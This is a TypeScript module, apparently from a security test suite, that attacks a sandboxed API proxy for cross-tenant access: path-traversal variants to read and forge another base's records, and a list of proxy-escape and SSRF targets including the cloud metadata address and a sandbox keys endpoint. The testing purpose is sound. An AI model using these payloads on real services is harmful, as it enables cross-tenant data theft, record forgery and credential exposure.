/**
 * Requests that are authorized as one path and sent as another: reads and forges data of another base.
 *
 * The attacker has a key for their own base, and knows the victim's base id, which is in every Airtable URL.
 */
import type { Random } from "../../../apps/sandbox/random";
import type { LogEntry } from "../../../apps/sandbox/request-log";
import { type Attack, paced, Tally } from "../attack";
import { rawRequest, sendBytes } from "../raw";
import type { Connected, Service, SourceBase } from "../service";
import { anyHost } from "./hostile-hosts";

const READS_PER_ROUND = 20;
const WRITES_PER_ROUND = 12;
const OTHERS_PER_ROUND = 8;
/** Requests that name the victim's base wait for its rate limit of five a second. */
const PER_SECOND = 6;
const TIMEOUT_MS = 8000;
const PREFIX = "/api.airtable.com/v0";

export const paths: Attack = {
  name: "paths",
  finding: "S1",
  async run(service, rounds, random) {
    const { victim } = service.accounts;
    const [theirs, own] = await Promise.all([service.sourceBase("Victim's"), service.sourceBase("Own")]);
    const ownerKey = await service.key({ [theirs.id]: "create" });
    const base = await service.connect(victim, theirs, { api_key: ownerKey, settings: { live: false } });
    await victim.change(base.id, { paused: true });
    const tally = new Tally();
    await paced(Array(rounds * READS_PER_ROUND), PER_SECOND, async () =>
      tally.add(await readOthers(service, theirs, own, random)),
    );
    await paced(Array(rounds * WRITES_PER_ROUND), PER_SECOND, async () => {
      await forge(service, theirs, own, random);
    });
    tally.addMany(rounds * WRITES_PER_ROUND, await forgedRows(base), "a row of the victim's replica forged");
    await paced(Array(rounds * OTHERS_PER_ROUND), PER_SECOND, async () =>
      tally.add(await leave(service, own, random)),
    );
    await service.disconnect(base);
    return tally;
  },
};

/**
 * Makes a key of the attacker's own base count as accepted for the victim's, then reads the victim's replica with it.
 */
async function readOthers(service: Service, theirs: SourceBase, own: SourceBase, random: Random) {
  const key = await service.key({ [own.id]: "read" });
  const headers = { Authorization: `Bearer ${key}`, "x-basetide-read": "replica" };
  const proxy = service.of("proxy")[random.int(0, 1)]!.port;
  const up = random.chance(0.6) ? ".." : random.pick(["%2e%2e", ".%2e", "%2E.", "..%2f..", "..;", ".\t."]);
  const slash = random.chance(0.6) ? "/" : random.pick(["\\", "%2f", "%5c", "//"]);
  const path = `${PREFIX}/${theirs.id}${slash}${up}${slash}${own.id}/Tasks`;
  const target = random.chance(0.15) ? `http://${random.pick(["x", "[", "1.2.3.4.5"])}${path}` : path;
  const version = random.chance(0.85) ? "1.1" : "1.0";
  const host = anyHost(random);
  await sendBytes(proxy, rawRequest(`GET ${target} HTTP/${version}`, host, headers), TIMEOUT_MS);
  const plain = `GET ${PREFIX}/${theirs.id}/Tasks?maxRecords=1 HTTP/1.1`;
  const answer = await sendBytes(proxy, rawRequest(plain, "x", headers), TIMEOUT_MS);
  return (
    /^HTTP\/1\.1 200/.test(answer) && `read the victim's replica after ${JSON.stringify([target, host])}`
  );
}

/** A write to the attacker's own base whose path names the victim's: its answer must not become a row there. */
async function forge(service: Service, theirs: SourceBase, own: SourceBase, random: Random): Promise<void> {
  const key = await service.key({ [own.id]: "create" });
  const proxy = service.of("proxy")[random.int(0, 1)]!.port;
  const back = random.chance(0.6) ? "\\" : random.pick(["%5c", "/", "%2f"]);
  const record = random.pick(own.recordIds);
  const path = `${PREFIX}/${theirs.id}/Tasks/..${back}..${back}${own.id}${back}Tasks${back}${record}`;
  const body = JSON.stringify({ fields: { Name: "FORGED", Status: "owned" } });
  const headers = { Authorization: `Bearer ${key}` };
  const method = random.pick(["PATCH", "PUT", "PATCH"]);
  await sendBytes(
    proxy,
    rawRequest(`${method} ${path} HTTP/1.1`, anyHost(random), headers, body),
    TIMEOUT_MS,
  );
}

async function forgedRows(base: Connected): Promise<number> {
  const [row] = await base.sql<{ count: number }[]>`
    select count(*)::int as count from tasks where name = 'FORGED'`;
  return row!.count;
}

/** Escapes from what the proxy serves: other hosts, other paths of the source. */
async function leave(service: Service, own: SourceBase, random: Random): Promise<string | false> {
  const key = await service.key({ [own.id]: "read" });
  const sandbox = new URL(service.sandbox.url).host;
  const target = random.pick([
    `${PREFIX}/../_sandbox/bases`,
    `${PREFIX}/%2e%2e/_sandbox/bases`,
    `${PREFIX}/..%2f_sandbox/bases`,
    `${PREFIX}/a/../../_sandbox/bases`,
    `${PREFIX}/${own.id}/x/../../../_sandbox/keys`,
    `${PREFIX}\\..\\_sandbox\\keys`,
    `/api.airtable.com@${sandbox}/_sandbox/keys`,
    `/api.airtable.com:80@${sandbox}/v0/x`,
    `/${sandbox}/v0/x`,
    `/[::1]/v0/latest`,
    `/169.254.169.254/v0/latest`,
    `/__proto__/v0/x`,
    `http://${sandbox}/_sandbox/keys`,
    `/api.airtable.com%2f..%2f_sandbox/v0/keys`,
  ]);
  const proxy = service.of("proxy")[random.int(0, 1)]!.port;
  const request = rawRequest(`GET ${target} HTTP/1.1`, anyHost(random), { Authorization: `Bearer ${key}` });
  const answer = await sendBytes(proxy, request);
  // An answer of the control API, which no call of Airtable gives.
  if (/^HTTP\/1\.1 200/.test(answer) && /"tokenId"|"records":\d/.test(answer))
    return `left /v0/ by ${JSON.stringify(target)}`;
  const seen = (await service.sandbox.call("GET", "log")) as LogEntry[];
  const away = seen.find(({ tokenId, path }) => tokenId === key.split(".")[0] && !path.startsWith("/v0/"));
  return away !== undefined && `the source was asked for ${away.path}`;
}
